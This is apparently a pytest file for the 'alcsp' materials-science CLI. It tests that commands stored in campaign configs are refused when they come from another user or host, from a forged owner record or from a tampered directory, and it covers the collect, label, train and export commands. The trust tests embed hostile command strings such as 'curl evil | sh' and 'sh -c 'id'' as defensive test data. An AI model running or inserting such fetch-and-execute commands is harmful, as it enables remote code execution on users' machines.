"""CLI habits (issue 16, items 3 and 6): commands from stored configs need this user's
trust, ``--version``, quiet exits into closed pipes, ``alcsp collect``, ``alcsp label``,
and the README's Python example runs as written."""

from __future__ import annotations

import fcntl
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from ase import Atoms
from ase.build import bulk
from ase.calculators.emt import EMT
from ase.io import read, write

import alcsp
from alcsp.cli import EXIT_BROKEN_PIPE, main
from alcsp.commands import run as run_cmd
from alcsp.oracle.base import Label
from alcsp.potential.io import labelled, labels_of, read_labelled
from alcsp.store import CampaignStore

ROOT = Path(__file__).resolve().parents[1]

BASE = """
[campaign]
name = "habits"
initial_structures = 2
max_iterations = 1
train_max_force = {max_force}

[compositions]
elements = ["Cu", "Au"]
max_formula_atoms = 2
max_cell_atoms = 2

[executor]
kind = "inline"
"""

EMT_ORACLE = '\n[oracle]\nname = "emt"\n'


def espresso(command: str) -> str:
    return (
        '\n[oracle]\nname = "espresso"\n[oracle.parameters]\npseudo_dir = "/nowhere"\n'
        'pseudopotentials = { Cu = "Cu.upf", Au = "Au.upf" }\n'
        f"command = {json.dumps(command)}\n"
    )


def config(oracle: str = EMT_ORACLE, max_force: float = 50.0) -> str:
    return BASE.format(max_force=max_force) + oracle


@pytest.fixture(autouse=True)
def own_key_folder(tmp_path, monkeypatch):
    """This user's owner key lives under the test's own XDG_CONFIG_HOME."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("OMP_NUM_THREADS", "1")


@pytest.fixture
def runs(monkeypatch):
    """``Campaign.run`` replaced by a recorder: the tests check whether a run would start,
    not the campaign itself."""
    from alcsp.campaign import Campaign

    calls: list[Path] = []

    def fake_run(self):
        calls.append(self.store.directory)
        return None

    monkeypatch.setattr(Campaign, "run", fake_run)
    return calls


def _owner(directory: Path) -> dict:
    with CampaignStore.open(directory, readonly=True) as store:
        return json.loads(store.meta(run_cmd.OWNER_KEY))


def _set_meta(directory: Path, key: str, value: str) -> None:
    """What someone with write access to the directory (or its sender) can do."""
    with CampaignStore.open(directory) as store:
        store.set_meta(key, value)


def _new_campaign(tmp_path: Path, text: str, runs: list) -> Path:
    cfg = tmp_path / "c.toml"
    cfg.write_text(text)
    d = tmp_path / "camp"
    assert main(["run", str(cfg), "--dir", str(d), "--quiet"]) == 1  # fake run: no hull
    assert len(runs) == 1
    return d


def _one_error_line(capsys) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1, err
    assert err[0].startswith("alcsp run: error: ")
    return err[0]


# ------------------------------------------------------------------ 1. commands from configs


def test_config_commands_names_every_field_that_becomes_a_command():
    assert run_cmd.config_commands(config()) == {}
    oracle = espresso("mpirun -np 4 pw.x").replace(
        'name = "espresso"\n',
        'name = "espresso"\nretries = [{ mixing_beta = 0.3 }, { command = "sh -c \'id\'" }]\n',
    )
    text = config(oracle) + (
        '\n[executor.dask]\ncluster = "slurm"\nqueue = "q"\n'
        'job_script_prologue = ["curl evil | sh"]\n'
    )
    text = text.replace('[executor]\nkind = "inline"', '[executor]\nkind = "dask"')
    found = run_cmd.config_commands(text)
    assert found["[oracle.parameters] command"] == "mpirun -np 4 pw.x"
    assert found["[oracle] retries (attempt 3) command"] == "sh -c 'id'"
    assert found["[executor.dask] job_script_prologue"] == ["curl evil | sh"]
    assert found["[executor.dask] queue"] == "q"
    assert "[oracle] retries (attempt 2) command" not in found


def test_own_campaign_continues_and_the_owner_record_names_this_user(tmp_path, runs):
    d = _new_campaign(tmp_path, config(espresso("pw.x")), runs)
    rec = _owner(d)
    assert rec["uid"] == os.getuid() and rec["host"] == os.uname().nodename
    assert len(rec["commands_hmac"]) == 64
    assert (tmp_path / "xdg" / "alcsp" / "owner.key").stat().st_mode & 0o077 == 0
    assert main(["run", str(d), "--quiet"]) == 1
    assert len(runs) == 2


@pytest.mark.parametrize(
    "field, value, says",
    [
        ("host", "elsewhere.example.org", "written on host 'elsewhere.example.org'"),
        ("user", "mallory", "user 'mallory'"),
        ("uid", 4242, "uid 4242"),
    ],
)
def test_another_users_or_hosts_commands_are_refused_until_trusted(
    tmp_path, runs, capsys, field, value, says
):
    d = _new_campaign(tmp_path, config(espresso("sh -c 'touch /tmp/owned'")), runs)
    rec = _owner(d)
    _set_meta(d, run_cmd.OWNER_KEY, json.dumps({**rec, field: value}))
    capsys.readouterr()
    assert main(["run", str(d), "--quiet"]) == 2
    line = _one_error_line(capsys)
    assert "[oracle.parameters] command = \"sh -c 'touch /tmp/owned'\"" in line
    assert says in line and f"alcsp run {d} --trust-config" in line
    assert len(runs) == 1  # nothing ran
    assert main(["run", str(d), "--quiet", "--trust-config"]) == 1
    assert len(runs) == 2
    assert _owner(d)[field] == rec[field]  # signed for this user, here
    assert main(["run", str(d), "--quiet"]) == 1  # and trusted from now on
    assert len(runs) == 3


def test_commands_changed_inside_the_directory_are_refused(tmp_path, runs, capsys):
    d = _new_campaign(tmp_path, config(espresso("pw.x")), runs)
    _set_meta(d, "config", config(espresso("sh -c 'curl evil | sh'")))
    capsys.readouterr()
    assert main(["run", str(d), "--quiet"]) == 2
    line = _one_error_line(capsys)
    assert "curl evil | sh" in line and "changed without --config" in line
    assert len(runs) == 1


def test_a_forged_owner_record_is_refused(tmp_path, runs, capsys, monkeypatch):
    """The record names this user and host, but its HMAC was made with another key (the
    sender's): the key never travels with the directory."""
    d = _new_campaign(tmp_path, config(espresso("pw.x")), runs)
    evil = config(espresso("sh -c 'id'"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "sender"))
    forged = run_cmd.owner_record(evil)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    _set_meta(d, "config", evil)
    _set_meta(d, run_cmd.OWNER_KEY, json.dumps(forged))
    capsys.readouterr()
    assert main(["run", str(d), "--quiet"]) == 2
    assert "sh -c 'id'" in _one_error_line(capsys)
    assert len(runs) == 1


def test_campaign_without_an_owner_record(tmp_path, runs, capsys):
    """Older campaigns have no record: refused only when the config names commands."""
    for name, text, code in [("emt", config(), 1), ("qe", config(espresso("pw.x")), 2)]:
        d = tmp_path / name
        CampaignStore.create(d, text).close()
        capsys.readouterr()
        assert main(["run", str(d), "--quiet"]) == code
        if code == 2:
            assert "has no owner record" in _one_error_line(capsys)
    assert len(runs) == 1


def test_a_config_the_user_passes_is_theirs(tmp_path, runs):
    """``--config NEW.toml`` and ``alcsp run CONFIG --dir D`` sign what they store."""
    text = config(espresso("pw.x"))
    d = _new_campaign(tmp_path, text, runs)
    rec = _owner(d)
    _set_meta(d, run_cmd.OWNER_KEY, json.dumps({**rec, "host": "elsewhere"}))
    assert main(["run", str(tmp_path / "c.toml"), "--dir", str(d), "--quiet"]) == 1
    assert _owner(d)["host"] == rec["host"]
    new = tmp_path / "new.toml"
    new.write_text(config(espresso("mpirun -np 2 pw.x")))
    _set_meta(d, run_cmd.OWNER_KEY, json.dumps({**rec, "host": "elsewhere"}))
    assert main(["run", str(d), "--config", str(new), "--quiet"]) == 1
    assert main(["run", str(d), "--quiet"]) == 1
    assert len(runs) == 4


def test_refused_command_never_runs_from_the_command_line(tmp_path, runs):
    """End to end in a subprocess: the stored command would create a marker file."""
    marker = tmp_path / "marker"
    d = _new_campaign(tmp_path, config(espresso(f"sh -c 'touch {marker}'")), runs)
    _set_meta(d, run_cmd.OWNER_KEY, json.dumps({**_owner(d), "host": "elsewhere"}))
    proc = subprocess.run(
        [sys.executable, "-m", "alcsp.cli", "run", str(d), "--quiet"],
        capture_output=True,
        text=True,
        timeout=300,
        env=dict(os.environ),
    )
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert "--trust-config" in proc.stderr and f"touch {marker}" in proc.stderr
    assert not marker.exists()


# ------------------------------------------------------------------ 2. --version


def test_version(capsys):
    with pytest.raises(SystemExit) as exc:
        main(["--version"])
    assert exc.value.code == 0
    assert capsys.readouterr().out.strip() == f"alcsp {alcsp.__version__}"
    assert re.fullmatch(r"\d+\.\d+\.\d+", alcsp.__version__)


# ------------------------------------------------------------------ 3. closed pipes


def _into_closed_pipe(args: list[str], cwd: Path) -> tuple[int, bytes, str]:
    """``alcsp ARGS | head -c 100``: a 4 KiB pipe whose reader takes 100 bytes and leaves."""
    r, w = os.pipe()
    fcntl.fcntl(w, fcntl.F_SETPIPE_SZ, 4096)
    proc = subprocess.Popen(
        [sys.executable, "-m", "alcsp.cli", *args],
        stdout=w,
        stderr=subprocess.PIPE,
        cwd=cwd,
        env=dict(os.environ),
    )
    os.close(w)
    head = os.read(r, 100)
    os.close(r)
    _, err = proc.communicate(timeout=300)
    return proc.returncode, head, err.decode()


def _cuau_frames(n: int, rng: np.random.Generator) -> list[Atoms]:
    out = []
    for _ in range(n):
        a = bulk("Cu", "fcc", a=3.7, cubic=True)
        a.numbers = rng.choice([29, 79], size=4)
        a.positions += rng.normal(0, 0.05, a.positions.shape)
        a.calc = EMT()
        out.append(labelled(a, a.get_potential_energy(), a.get_forces(), a.get_stress()))
    return out


def test_no_broken_pipe_tracebacks(tmp_path):
    big = tmp_path / "big.toml"
    big.write_text(
        config()
        .replace("max_formula_atoms = 2", "max_formula_atoms = 40")
        .replace("max_cell_atoms = 2", "max_cell_atoms = 80")
    )
    d = tmp_path / "camp"
    with CampaignStore.create(d, config()) as store:
        for i in range(60):
            store.start_iteration(i)
            store.update_iteration(i, counts={f"count_{k}": k for k in range(8)})
    hull_file = tmp_path / "many.extxyz"
    write(hull_file, _cuau_frames(150, np.random.default_rng(0)))
    for args in (
        ["compositions", str(big)],
        ["status", str(d), "--json"],
        ["hull", str(hull_file)],
    ):
        code, head, err = _into_closed_pipe(args, tmp_path)
        assert head, args
        assert err == "", (args, err)
        assert code == EXIT_BROKEN_PIPE, (args, code)


def test_a_broken_pipe_that_is_not_stdout_still_raises(monkeypatch):
    import alcsp.commands.compositions as comp

    def broken(args):
        raise BrokenPipeError("a socket of the command's own")

    monkeypatch.setattr(comp, "run", broken)
    with pytest.raises(BrokenPipeError):
        main(["compositions", "x.toml"])


# ------------------------------------------------------------------ 4. alcsp collect


def _labelled_campaign(tmp_path: Path, max_force: float = 5.0) -> tuple[Path, list[Atoms]]:
    d = tmp_path / "camp"
    frames = _cuau_frames(6, np.random.default_rng(1))
    frames[2].positions[0] += 0.9  # a close pair: large forces
    with CampaignStore.create(d, config(max_force=max_force)) as store:
        ids = store.add_structures(frames, origin="random", iteration=0)
        results = []
        for k, (sid, a) in enumerate(zip(ids, frames, strict=True)):
            a.calc = EMT()
            f = a.get_forces()
            results.append(
                (
                    sid,
                    Label(
                        a.get_potential_energy(),
                        f,
                        a.get_stress(voigt=False),
                        "emt",
                        1.0,
                        energy_zero=a.get_potential_energy() - 0.01 * k,
                    ),
                )
            )
        store.add_labels(results[:5], iteration=1)
        store.add_labels(results[5:], iteration=2)
    return d, frames


def test_collect_writes_the_training_set_for_alcsp_train(tmp_path, capsys):
    d, frames = _labelled_campaign(tmp_path)
    out = tmp_path / "labels.extxyz"
    assert main(["collect", str(d), "--out", str(out)]) == 0
    said = capsys.readouterr().out
    assert "wrote 5 labelled structures (emt)" in said
    assert "left out 1 with a force component above 5 eV/Å" in said
    got = read(out, index=":")
    assert [a.info["structure_id"] for a in got] == [1, 2, 4, 5, 6]
    assert [a.info["iteration"] for a in got] == [1, 1, 1, 1, 2]
    assert {a.info["origin"] for a in got} == {"random"}
    for a in got:
        k = a.info["structure_id"] - 1
        res = a.calc.results
        assert res["energy"] == pytest.approx(res["free_energy"] - 0.01 * k)  # E0
        assert res["stress"].shape == (6,)
        assert np.abs(res["forces"]).max() <= 5.0
    train_data = read_labelled(out)  # what `alcsp train` reads: F, the force-consistent one
    assert labels_of(train_data[1]).energy == pytest.approx(got[1].calc.results["free_energy"])
    assert main(["collect", str(d), "--out", str(out), "--max-force", "0"]) == 0
    assert len(read(out, index=":")) == 6
    tiny = tmp_path / "tiny.toml"
    tiny.write_text(
        "[model]\nn_radial = 4\nn_angular = 3\nbasis_radial = 4\nbasis_angular = 4"
        "\nharmonic_degree = 2\nembedding = [8]\nfitting = [16]\n"
    )
    model = tmp_path / "m.pt"
    assert (
        main(
            [
                "train",
                str(out),
                "--out",
                str(model),
                "--config",
                str(tiny),
                "--steps",
                "3",
                "--quiet",
            ]
        )
        == 0
    )
    assert model.exists()


def test_train_leaves_out_overlapping_atoms_as_a_campaign_does(tmp_path, capsys):
    """`alcsp train` applies the campaign's force cap (default 50 eV/Å) with a one-line
    warning; --max-force 0 trains on every label; nothing left is an error."""
    frames = []
    for a, shift in ((3.6, None), (3.7, None), (3.6, 0.1)):
        atoms = bulk("Cu", "fcc", a=a, cubic=True)
        atoms.rattle(0.02, seed=1)
        if shift is not None:  # two atoms 0.1 Å apart: forces of thousands of eV/Å
            atoms.positions[1] = atoms.positions[0] + [shift, 0, 0]
        atoms.calc = EMT()
        frames.append(labelled(atoms, atoms.get_potential_energy(), atoms.get_forces()))
    data = tmp_path / "d.extxyz"
    write(data, frames, format="extxyz")
    tiny = tmp_path / "tiny.toml"
    tiny.write_text(
        "[model]\nn_radial = 2\nn_angular = 2\nbasis_radial = 2\nbasis_angular = 2"
        "\nharmonic_degree = 1\nembedding = [4]\nfitting = [4]\n"
    )
    argv = ["train", str(data), "--config", str(tiny), "--steps", "2", "--quiet"]
    capsys.readouterr()
    assert main([*argv, "--out", str(tmp_path / "a.pt")]) == 0
    out = capsys.readouterr()
    (warning,) = [line for line in out.err.splitlines() if "warning" in line]
    assert warning.startswith("alcsp train: warning: left out 1 of 3 structures")
    assert "50 eV/Å" in warning and "--max-force 0" in warning
    assert "training on 2 structures" in " ".join(out.err.split())
    assert main([*argv, "--out", str(tmp_path / "b.pt"), "--max-force", "0"]) == 0
    out = capsys.readouterr()
    assert "warning" not in out.err and "training on 3 structures" in " ".join(out.err.split())
    assert main([*argv, "--out", str(tmp_path / "c.pt"), "--max-force", "1e-9"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "raise --max-force" in err[0]
    assert main([*argv, "--out", str(tmp_path / "d.pt"), "--max-force", "nan"]) == 2
    assert "--max-force must be >= 0" in capsys.readouterr().err
    assert not (tmp_path / "c.pt").exists() and not (tmp_path / "d.pt").exists()


def test_export_writes_polymorphs_with_their_hull_data(tmp_path, capsys):
    """`alcsp export --polymorphs N`: each composition's distinct structures within the
    window (a duplicate label once), each frame with E_hull, formation enthalpy, space group
    and source in its info; the default stays one per composition."""
    d = tmp_path / "camp"
    frames = [
        bulk("Cu", "fcc", a=3.61),
        bulk("Cu", "fcc", a=3.61),  # the same structure labelled twice
        bulk("Cu", "bcc", a=2.88),
        bulk("Au", "fcc", a=4.08),
        bulk("CuAu", "rocksalt", a=5.4),
    ]
    with CampaignStore.create(d, config()) as store:
        ids = store.add_structures(frames, origin="random", iteration=0)
        results = []
        for sid, a in zip(ids, frames, strict=True):
            a.calc = EMT()
            e, f, st = a.get_potential_energy(), a.get_forces(), a.get_stress(voigt=False)
            results.append((sid, Label(e, f, st, "emt", 1.0, energy_zero=e)))
        store.add_labels(results, iteration=0)
    assert main(["export", str(d), "--ehull", "5", "--out", str(tmp_path / "one")]) == 0
    one = read(tmp_path / "one" / "structures.extxyz", index=":")
    assert sorted(a.info["composition"] for a in one) == ["Au", "Cu", "CuAu"]
    out = tmp_path / "all"
    argv = ["export", str(d), "--ehull", "5", "--polymorphs", "0", "--out", str(out)]
    assert main(argv) == 0
    got = read(out / "structures.extxyz", index=":")
    assert [a.info["structure_id"] for a in got if a.info["composition"] == "Cu"] == [
        ids[0],
        ids[2],
    ]  # fcc (its duplicate left out), then bcc
    assert len(got) == 4 and len(list((out / "cif").glob("*.cif"))) == 4
    bcc = next(a for a in got if a.info["structure_id"] == ids[2])
    assert bcc.info["space_group"] == "Im-3m (229)"
    assert bcc.info["e_hull"] > 0.01 and bcc.info["formation_enthalpy"] == bcc.info["e_hull"]
    assert bcc.info["source"] == "random, iteration 0" and bcc.info["pressure"] == 0.0
    assert bcc.get_potential_energy() == pytest.approx(results[2][1].energy)
    assert main([*argv, "--polymorphs", "-1"]) == 2
    assert "--polymorphs must be >= 0" in capsys.readouterr().err


def test_report_shows_oracle_failures_by_kind_with_an_example(tmp_path, capsys):
    from alcsp.oracle.base import FailureKind, LabelFailure

    d = tmp_path / "camp"
    frames = [bulk("Cu", "fcc", a=3.61), bulk("Au", "fcc", a=4.08)] + [
        bulk("CuAu", "rocksalt", a=5.4 + 0.1 * k) for k in range(3)
    ]
    with CampaignStore.create(d, config()) as store:
        ids = store.add_structures(frames, origin="random", iteration=0)
        results = []
        for sid, a in zip(ids[:2], frames[:2], strict=True):
            a.calc = EMT()
            e, f, st = a.get_potential_energy(), a.get_forces(), a.get_stress(voigt=False)
            results.append((sid, Label(e, f, st, "emt", 1.0, energy_zero=e)))
        timeout = "killed after the time limit of 5 s (raise [oracle] timeout_s)"
        results += [
            (ids[2], LabelFailure(FailureKind.TIMEOUT, timeout, "emt")),
            (ids[3], LabelFailure(FailureKind.TIMEOUT, timeout, "emt")),
            (ids[4], LabelFailure(FailureKind.SCF_NOT_CONVERGED, "no SCF after 3 tries", "emt")),
        ]
        store.add_labels(results, iteration=0)
    assert main(["report", str(d), "--out", str(tmp_path / "r")]) == 0
    page = (tmp_path / "r" / "report.html").read_text()
    section = page[page.index("<h2>Oracle failures</h2>") :]
    section = section[: section.index("</table>")]
    rows = re.findall(r"<tr>(.*?)</tr>", section)[1:]
    cells = [re.findall(r"<td>(.*?)</td>", r) for r in rows]
    assert cells[0][:3] == ["timeout", "2", str(ids[2])] and "time limit" in cells[0][3]
    assert cells[1][:3] == ["scf_not_converged", "1", str(ids[4])]


def test_collect_errors(tmp_path, capsys):
    d, _ = _labelled_campaign(tmp_path)
    out = tmp_path / "x.extxyz"
    assert main(["collect", str(tmp_path), "--out", str(out)]) == 2
    assert main(["collect", str(d), "--out", str(out), "--oracle", "gpaw"]) == 2
    assert main(["collect", str(d), "--out", str(out), "--max-force", "-1"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 3 and all(e.startswith("alcsp collect: error: ") for e in err)
    assert "no successful label from oracle 'gpaw'" in err[1] and "emt" in err[1]
    assert not out.exists()


# ------------------------------------------------------------------ 5. alcsp label


def _label_inputs(tmp_path: Path) -> Path:
    rng = np.random.default_rng(3)
    frames = [a.copy() for a in _cuau_frames(3, rng)]
    iron = bulk("Fe", "bcc", a=2.87, cubic=True)  # EMT has no Fe: a crash, reported
    frames.insert(1, iron)
    path = tmp_path / "in.extxyz"
    write(path, frames)
    return path


def test_label_writes_the_successes_and_reports_the_failures(tmp_path, capsys):
    cfg = tmp_path / "c.toml"
    cfg.write_text(config())
    src = _label_inputs(tmp_path)
    out = tmp_path / "out.extxyz"
    assert main(["label", str(src), "--config", str(cfg), "--out", str(out)]) == 0
    cap = capsys.readouterr()
    assert "labelled 3 of 4 structures with emt" in cap.out and "1 failed (1 crash)" in cap.out
    assert re.search(r"structure 1 \(Fe2\): crash: .*Fe", cap.err), cap.err
    got = read(out, index=":")
    inputs = read(src, index=":")
    assert len(got) == 3
    for a, ref in zip(got, [inputs[0], inputs[2], inputs[3]], strict=True):
        ref.calc = EMT()
        assert a.get_potential_energy() == pytest.approx(ref.get_potential_energy())
        assert a.get_forces() == pytest.approx(ref.get_forces())
        assert a.info["oracle"] == "emt"
    assert (tmp_path / "out.jobs" / "s000000000" / "outcome.json").exists()
    read_labelled(out)  # ready for `alcsp train`


def test_label_uses_the_configs_isolation_and_exits_2_when_nothing_succeeds(tmp_path, capsys):
    cfg = tmp_path / "c.toml"
    cfg.write_text(
        config().replace('name = "emt"', 'name = "emt"\nisolate = true\ntimeout_s = 120')
    )
    src = tmp_path / "fe.extxyz"
    write(src, [bulk("Fe", "bcc", a=2.87, cubic=True)])
    out = tmp_path / "out.extxyz"
    work = tmp_path / "jobs"
    assert (
        main(["label", str(src), "--config", str(cfg), "--out", str(out), "--workdir", str(work)])
        == 2
    )
    cap = capsys.readouterr()
    assert "structure 0 (Fe2): crash" in cap.err
    assert cap.err.strip().splitlines()[-1].startswith("alcsp label: error: ")
    assert (work / "s000000000" / "attempt-1" / "job.pkl").exists()  # its own process
    assert not out.exists()


# ------------------------------------------------------------------ 6. the README example


def test_readme_python_example_runs_as_written(capsys):
    text = (ROOT / "README.md").read_text()
    blocks = re.findall(r"```python\n(.*?)```", text, re.S)
    assert len(blocks) == 1
    exec(compile(blocks[0], "README.md", "exec"), {"__name__": "readme"})
    out = capsys.readouterr().out
    assert "validation:" in out and "converged" in out


def test_ctrl_c_of_any_command_is_one_line_and_exit_130(tmp_path, cuau_data):
    """SIGINT to `alcsp train` in the middle of a long training (as a terminal's Ctrl-C):
    exit 130 and one line on stderr, no KeyboardInterrupt traceback."""
    import signal
    import time

    from alcsp.potential.io import write_labelled

    data = tmp_path / "data.extxyz"
    write_labelled(data, cuau_data[0][:20])
    proc = subprocess.Popen(
        [sys.executable, "-m", "alcsp.cli", "train", str(data), "--out", str(tmp_path / "m.pt")]
        + ["--steps", "1000000", "--quiet"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "OMP_NUM_THREADS": "1"},
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # as in a shell
    )
    try:
        time.sleep(8)  # imports, reading the labels, the first training steps
        assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
        proc.wait()
    assert proc.returncode == 130, err
    assert "Traceback" not in err, err
    lines = err.strip().splitlines()  # the "training on ..." line, then one line for Ctrl-C
    assert lines[-1] == "alcsp train: interrupted", err
    assert sum("interrupt" in line for line in lines) == 1, err
    assert not (tmp_path / "m.pt").exists()
